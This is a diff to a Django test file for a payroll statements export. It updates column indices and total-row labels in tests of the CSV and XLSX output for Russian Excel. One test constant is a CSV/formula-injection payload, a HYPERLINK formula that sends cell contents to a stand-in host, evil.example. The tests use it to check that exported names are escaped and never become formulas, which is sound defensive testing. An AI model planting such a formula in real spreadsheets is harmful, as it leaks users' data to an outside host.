@@ -133,8 +133,8 @@ def test_export_csv_opens_in_russian_excel(client, people):
     assert response.content.startswith(b"\xef\xbb\xbf")
     rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
     assert rows[0][0] == "Хантер"
-    assert rows[1][7] == "10000,00"
-    assert rows[-1][3] == "Итого" and rows[-1][7] == "38000,00"
+    assert rows[1][11] == "10000,00"
+    assert rows[-1][0] == "Итого по всем листам" and rows[-1][11] == "38000,00"
 
 
 def test_export_xlsx_has_the_lines_and_the_total(client, people):
@@ -142,8 +142,9 @@ def test_export_xlsx_has_the_lines_and_the_total(client, people):
     response = client.get(reverse("compensation:statements"), {"month": MARCH, "export": "xlsx"})
     sheet = load_workbook(io.BytesIO(response.content)).active
     values = [row for row in sheet.iter_rows(values_only=True)]
-    assert values[-1][3] == "Итого"
-    assert float(values[-1][7]) == 38000.0
+    assert values[-2][3] == "Итого к выплате"
+    assert values[-1][0] == "Итого по всем листам"
+    assert float(values[-1][11]) == 38000.0
 
 
 FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A3&B3,"Открыть")'
@@ -175,8 +176,8 @@ def test_export_csv_writes_a_formula_looking_name_as_text_and_a_deduction_as_a_n
     ivanov_rows = [row for row in rows if row[0].endswith(FORMULA_NAME)]
     assert ivanov_rows and {row[0] for row in ivanov_rows} == {"'" + FORMULA_NAME}
     assert not [value for row in rows for value in row if value.startswith(("=", "+", "@", "\t", "\r"))]
-    [deduction] = [row for row in ivanov_rows if row[4] == "Корректировка: Штраф"]
-    assert deduction[7] == "-500,00"  # a number Russian Excel reads as one, not "'-500,00"
+    [deduction] = [row for row in ivanov_rows if row[8] == "Корректировка: Штраф"]
+    assert deduction[11] == "-500,00"  # a number Russian Excel reads as one, not "'-500,00"
 
 
 def test_export_xlsx_writes_a_formula_looking_name_as_text_and_a_deduction_as_a_number(
@@ -188,10 +189,11 @@ def test_export_xlsx_writes_a_formula_looking_name_as_text_and_a_deduction_as_a_
 
     cells = [cell for row in sheet.iter_rows() for cell in row]
     assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
-    names = {row[0].value for row in sheet.iter_rows(min_row=2) if row[0].value.endswith(FORMULA_NAME)}
+    first_cells = [row[0].value or "" for row in sheet.iter_rows(min_row=2)]
+    names = {value for value in first_cells if value.endswith(FORMULA_NAME)}
     assert names == {"'" + FORMULA_NAME}
-    [deduction] = [row for row in sheet.iter_rows(min_row=2) if row[4].value == "Корректировка: Штраф"]
-    assert deduction[7].data_type == "n" and deduction[7].value == -500
+    [deduction] = [row for row in sheet.iter_rows(min_row=2) if row[8].value == "Корректировка: Штраф"]
+    assert deduction[11].data_type == "n" and deduction[11].value == -500
 
 
 def test_scheme_page_shows_the_live_rates_and_only_the_head_changes_them(client, people):
